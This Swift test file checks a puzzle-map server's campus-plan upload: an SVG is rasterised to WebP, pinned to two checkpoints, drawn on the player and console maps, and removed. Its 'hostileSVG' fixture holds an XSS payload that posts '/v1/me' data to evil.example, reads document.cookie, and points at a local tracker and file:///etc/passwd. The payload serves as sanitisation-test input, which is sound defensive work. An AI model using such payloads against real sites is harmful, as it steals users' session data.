import CWebP
import Foundation
import Hummingbird
import HummingbirdTesting
import PuzzleMapCore
import PuzzleMapImaging
import Testing

/// The organisers' campus plan through the real router: an SVG uploaded with a script, an
/// event handler and links to other addresses is kept as pixels only; pinned to two places,
/// it is drawn under the places on the players' map and the console's; removed, the drawn
/// plan is back.
@Suite struct CampusPlanRoutesTests {
    static let hostileSVG = """
        <?xml version="1.0" encoding="UTF-8"?>
        <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="800" height="450" viewBox="0 0 800 450">
        <script>fetch('/v1/me').then(r => r.text()).then(t => navigator.sendBeacon('https://evil.example', t))</script>
        <rect width="800" height="450" fill="#cfe3c0" onload="alert(document.cookie)"/>
        <rect x="390" width="20" height="450" fill="#333"/>
        <image href="http://127.0.0.1:9/tracker.png" width="40" height="40"/>
        <image xlink:href="file:///etc/passwd" x="50" width="40" height="40"/>
        </svg>
        """

    /// The size and pixels of a WebP, as a browser decodes it.
    static func decoded(_ webp: [UInt8]) -> (width: Int32, height: Int32, pixels: [UInt8]) {
        var (width, height): (Int32, Int32) = (0, 0)
        let pointer = webp.withUnsafeBufferPointer { WebPDecodeRGB($0.baseAddress, $0.count, &width, &height) }
        defer { WebPFree(pointer) }
        return (width, height, pointer.map { Array(UnsafeBufferPointer(start: $0, count: Int(width * height * 3))) } ?? [])
    }

    static func put(_ client: some TestClientProtocol, _ body: [UInt8], type: String, token: String) async throws -> (status: HTTPResponse.Status, json: [String: Any]) {
        try await client.execute(uri: "/v1/admin/campus-plan", method: .put, headers: [.authorization: "Bearer \(token)", .contentType: type],
                                 body: ByteBuffer(bytes: body)) { response in
            (response.status, (try? JSONSerialization.jsonObject(with: Data(buffer: response.body)) as? [String: Any]) ?? [:])
        }
    }

    @Test func anUploadedPlanPinnedToTwoPlacesIsDrawnUnderEveryMapUntilRemoved() async throws {
        let service = try await TestService()
        let content = service.services.content
        try await service.test { client in
            let olive = try await client.signedInPlayer("olive")
            _ = try await service.repository.setRole(email: "olive@student.gla.ac.uk", role: .admin, partnerID: nil)
            let ada = PageBrowser(session: try await client.playerWithQuiz("ada", quiz: content.quiz.map(\.id)))

            // The SVG is drawn to fit 1600 pixels: the plan is its shape, not yet pinned.
            let uploaded = try await Self.put(client, Array(Self.hostileSVG.utf8), type: "image/svg+xml", token: olive)
            #expect(uploaded.status == .created)
            #expect(uploaded.json["width"] as? Int == 1600 && uploaded.json["height"] as? Int == 900)
            #expect(uploaded.json["pinned"] as? Bool == false && uploaded.json["picture"] as? String == "/campus-plan/1.webp")
            try await client.execute(uri: "/campus-plan/1.webp", method: .get) { response in
                #expect(response.status == .ok && response.headers[.contentType] == "image/webp")
                #expect(response.headers[.cacheControl]?.contains("immutable") == true)
                let bytes = [UInt8](buffer: response.body)
                #expect(Array(bytes[8..<12]) == Array("WEBP".utf8))
                // Pixels only: the road drawn down the middle, and nothing of the document.
                let decoded = Self.decoded(bytes)
                #expect(decoded.width == 1600 && decoded.height == 900)
                let road = decoded.pixels[(450 * 1600 + 800) * 3], grass = decoded.pixels[(450 * 1600 + 400) * 3 + 1]
                #expect(road < 90 && grass > 200)
                #expect(String(decoding: bytes, as: UTF8.self).contains("script") == false)
            }
            // Until it is pinned, players keep the drawn plan.
            #expect(try await ada.get("/map", client).html.contains(#"<rect class="ground""#))

            // Two places far apart pin it.
            let (first, second) = (content.checkpoints[0], try #require(content.checkpoints.max { content.checkpoints[0].coordinate.distance(to: $0.coordinate) < content.checkpoints[0].coordinate.distance(to: $1.coordinate) }))
            let pinned = try await client.call(.put, "/v1/admin/campus-plan/pins", json: [
                "version": 1, "pins": [["x": 400, "y": 300, "place": first.id], ["x": 1200, "y": 650, "place": second.id]] as [[String: any Sendable]],
            ], token: olive)
            #expect(pinned.status == .ok && pinned.json["pinned"] as? Bool == true)
            #expect((pinned.json["pins"] as? [[String: Any]])?.first?["latitude"] as? Double == first.coordinate.latitude)

            // The map draws the picture, 320 units wide, and each place where the pins put it.
            let map = try await ada.get("/map", client).html
            #expect(map.contains(#"<svg viewBox="0 0 320 180.0""#))
            #expect(map.contains(#"<image href="/campus-plan/1.webp" x="0" y="0" width="320" height="180.0""#))
            #expect(map.contains(#"<circle cx="80.0" cy="60.0" r="11"/>"#) && map.contains(#"<circle cx="240.0" cy="130.0" r="11"/>"#))
            #expect(!map.contains(#"<rect class="ground""#) && !map.contains("North is up"))
            #expect(map.contains("Drawn on the organisers&#39; own plan of the campus."))
            // So does the console, where a tap on it places a new checkpoint.
            let console = PageBrowser(session: olive)
            #expect(try await console.get("/console/new-place", client).html.contains(#"<image href="/campus-plan/1.webp""#))
            let planPage = try await console.get("/console/campus-plan", client)
            #expect(planPage.status == .ok && planPage.html.contains(#"id="field-pin1-x" name="pin1-x" value="400""#))

            // Pins that cannot place the campus are refused with why; pins for an older upload too.
            let inLine = try await client.call(.put, "/v1/admin/campus-plan/pins", json: [
                "version": 1, "pins": [["x": 400, "y": 300, "place": first.id], ["x": 1200, "y": 650, "place": second.id],
                                       ["x": 800, "y": 475, "latitude": first.coordinate.latitude + 0.001, "longitude": first.coordinate.longitude]]
                    as [[String: any Sendable]],
            ], token: olive)
            #expect(inLine.status == .unprocessableContent && inLine.json["code"] as? String == "plan_pins_unusable")
            #expect((inLine.json["detail"] as? String)?.contains("in a line") == true)
            let stale = try await client.call(.put, "/v1/admin/campus-plan/pins", json: ["version": 7, "pins": [[String: any Sendable]]()], token: olive)
            #expect(stale.status == .conflict && stale.json["code"] as? String == "campus_plan_replaced")
            // A PDF is not a plan; a broken SVG is said to be one.
            #expect(try await Self.put(client, Array("%PDF-1.7\n".utf8), type: "application/pdf", token: olive).json["code"] as? String == "unsupported_plan_format")
            let broken = try await Self.put(client, Array("<svg xmlns=\"http://www.w3.org/2000/svg\"><rect".utf8), type: "image/svg+xml", token: olive)
            #expect(broken.status == .unprocessableContent && broken.json["code"] as? String == "corrupt_image")

            let actions = try await service.repository.auditLog(limit: 10).map(\.record.action)
            #expect(actions.filter { [.campusPlanUploaded, .campusPlanPinned].contains($0) } == [.campusPlanPinned, .campusPlanUploaded])

            // Removed: the picture is gone and the drawn plan is back; the next upload is a new address.
            #expect(try await client.call(.delete, "/v1/admin/campus-plan", token: olive).status == .noContent)
            #expect(try await client.execute(uri: "/campus-plan/1.webp", method: .get) { $0.status } == .notFound)
            #expect(try await ada.get("/map", client).html.contains(#"<rect class="ground""#))
            #expect(try await client.call(.get, "/v1/admin/campus-plan", token: olive).json["code"] as? String == "no_campus_plan")
            let again = try await Self.put(client, try PNGEncoder.encodeRGB(RGBImage(width: 40, height: 30, pixels: [UInt8](repeating: 128, count: 40 * 30 * 3))),
                                           type: "image/png", token: olive)
            #expect(again.status == .created && again.json["picture"] as? String == "/campus-plan/2.webp")
        }
    }
}
